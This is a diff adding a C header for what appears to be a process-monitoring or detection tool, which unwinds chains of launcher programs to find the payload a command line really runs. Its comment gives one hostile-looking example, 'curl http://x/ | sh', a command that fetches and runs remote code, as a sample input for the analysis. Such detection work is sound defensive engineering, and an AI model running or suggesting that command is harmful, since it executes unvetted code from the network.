@@ -1,0 +1,53 @@
+/* SPDX-License-Identifier: Apache-2.0
+ *
+ * What a program was really made to run: its arguments are read by its grammar (grammar.h), what they name is read by
+ * the grammar of that program, and so on down to what is no proxy, or cannot be read any further: the payload.
+ *
+ *   env A=1 nice timeout 5 bash -c 'curl http://x/ | sh'
+ *   chain: env, nice, timeout, bash, sh      payload: PIPE, "curl http://x/ | sh", piped from "curl http://x/"
+ *
+ * A command line that its grammar does not fit gives no payload, never a wrong one.
+ */
+#ifndef SN_UNWIND_H
+#define SN_UNWIND_H
+#include "grammar.h"
+
+enum sn_unwind_limits {
+	SN_UNWIND_DEPTH = 16,	      /* proxies in a chain; deeper ones make the rest the payload */
+	SN_UNWIND_ROOM = 2 * 65536, /* bytes of texts that are split or joined for one event */
+};
+
+enum sn_payload_kind {
+	SN_PAYLOAD_NONE = 0,
+	SN_PAYLOAD_COMMAND = 1,	      /* argv */
+	SN_PAYLOAD_INLINE_SCRIPT = 2, /* text */
+	SN_PAYLOAD_SCRIPT_FILE = 3,   /* path */
+	SN_PAYLOAD_LIBRARY = 4,	      /* path */
+	SN_PAYLOAD_FROM_URL = 5,      /* url */
+	SN_PAYLOAD_PIPE = 6,	      /* text, piped */
+};
+
+struct sn_unwound {
+	uint32_t depth; /* proxies; 0: none, and nothing below is set */
+	uint32_t kind;	/* enum sn_payload_kind */
+	struct sn_bytes chain[SN_UNWIND_DEPTH]; /* basenames, outermost first */
+	struct sn_bytes class;	/* of the innermost proxy */
+	struct sn_bytes argv;	/* each argument ended by NUL, the last perhaps not */
+	struct sn_bytes text;	/* that was given to an interpreter */
+	struct sn_bytes path;	/* of a program, a script or a library, as it was given */
+	struct sn_bytes url;	/* the first one in the payload */
+	struct sn_bytes piped;	/* the commands whose output is run */
+	bool truncated;		/* the arguments were cut within the payload */
+};
+
+/* One per matching thread; what an unwinding found stands in it until the next one. */
+struct sn_unwinder {
+	uint32_t used;
+	uint8_t room[SN_UNWIND_ROOM];
+};
+
+/* `image`: path of the executable; `argv`: arguments, each ended by NUL, borrowed as long as `out` is used;
+ * `cut`: they go on beyond that. Returns out->depth. */
+uint32_t sn_unwinder__run(struct sn_unwinder *unwinder, const struct sn_grammars *grammars, struct sn_bytes image,
+			  struct sn_bytes argv, bool cut, struct sn_unwound *out);
+#endif
